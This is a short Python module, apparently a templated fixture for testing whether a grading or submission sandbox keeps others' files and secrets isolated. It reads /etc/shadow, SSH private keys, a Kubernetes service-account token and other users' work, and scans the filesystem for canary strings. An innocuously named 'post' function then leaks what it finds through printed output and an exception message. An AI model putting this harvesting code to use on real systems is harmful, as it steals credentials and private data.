"""Reads others' work, the home folder, the users of the machine, and then walks the tree for more."""

import os

from honest import steady

__all__ = ["post", "steady"]

WANTED = (
    "@OTHER@",
    "@HOME@/secret.txt",
    "@TMP@",
    "/etc/shadow",
    "/etc/passwd",
    "/root/.ssh/id_rsa",
    "/var/run/secrets/kubernetes.io/serviceaccount/token",
    "/submission",
)


def told():
    for path in WANTED:
        try:
            with open(path) as file:
                yield file.read()
        except OSError as error:
            yield str(error)
    count = 0
    for top, folders, files in os.walk("/"):
        folders[:] = [name for name in folders if name not in ("lib", "proc", "sys")]
        for name in files:
            count += 1
            if count > 3000 or not name.endswith((".txt", ".toml", ".py", ".env", ".json")):
                continue
            try:
                with open(os.path.join(top, name), errors="replace") as file:
                    text = file.read(2000)
            except OSError:
                continue
            if "CANARY" + "-" in text:
                yield text


async def post(address, names):
    got = list(told())
    print(*got)
    raise LookupError(" ".join(got)[:400])
